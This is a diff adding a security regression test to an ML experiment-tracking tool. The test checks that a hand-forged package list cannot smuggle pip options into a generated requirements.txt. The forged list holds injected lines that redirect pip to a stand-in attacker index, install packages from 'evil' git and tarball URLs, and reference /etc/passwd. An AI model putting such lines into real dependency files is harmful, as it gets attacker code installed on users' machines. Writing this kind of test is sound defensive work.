@@ -157,3 +157,53 @@ def test_a_linked_folder_in_the_commit_does_not_lead_data_links_outside(tmp_path
     assert "data/train" in (out / "command.sh").read_text()
     sh(out / "command.sh")
     assert sorted(p.name for p in victim.iterdir()) == []
+
+
+def test_a_forged_package_list_cannot_point_pip_elsewhere(tmp_path):
+    """mltrail records the packages as `name==version` lines; a writer who appends
+    the run's records by hand can put pip options in the list. requirements.txt
+    held them as recorded, so the README's `pip install -r requirements.txt`
+    installed from the writer's index (or ran a URL's setup.py)."""
+    import mltrail
+    from mltrail.ledger.home import open_home
+
+    home, project = tmp_path / "home", tmp_path / "project"
+    project.mkdir()
+    mltrail.init_home(home, origin="test.mltrail.local/pip", env={})
+    forged = (
+        b"numpy==1.26.4\n"
+        b"--index-url http://127.0.0.1:9/simple\n"
+        b"--extra-index-url=http://127.0.0.1:9/x\n"
+        b"-e git+http://127.0.0.1:9/evil.git#egg=evil\n"
+        b"evil @ http://127.0.0.1:9/evil.tar.gz\n"
+        b"torch==2.1.0+cu121\n"
+        b"-r /etc/passwd\n"
+        b"six==1.16.0\x0c--trusted-host 127.0.0.1\n"
+    )
+    opened = open_home(home, env={})
+    try:
+        ledger = opened.ledger
+        run = "0193a0c4-0000-7000-8000-000000000001"
+        ledger.append(
+            "run.started",
+            {"source": "api", "name": "pip", "command": ["python", "t.py"],
+             "cwd": str(project)},
+            run=run,
+        )  # fmt: skip
+        ledger.append(
+            "run.environment",
+            {"python": {"version": "3.11.9", "implementation": "CPython"},
+             "packages": {"count": 8, "list": ledger.put_blob(forged)}},
+            run=run,
+        )  # fmt: skip
+        ledger.append("run.ended", {"status": "succeeded", "exit_code": 0}, run=run)
+    finally:
+        opened.close()
+    out = tmp_path / "repro"
+    proc = mltrail_cli(home, project, "reproduce", "pip", "--out", str(out))
+    assert proc.returncode == 0, proc.stderr
+    assert (out / "requirements.txt").read_bytes() == (
+        b"numpy==1.26.4\ntorch==2.1.0+cu121\n"
+    )
+    assert "--index-url" in proc.stdout  # said, not written
+    assert "left out" in (out / "README.md").read_text()
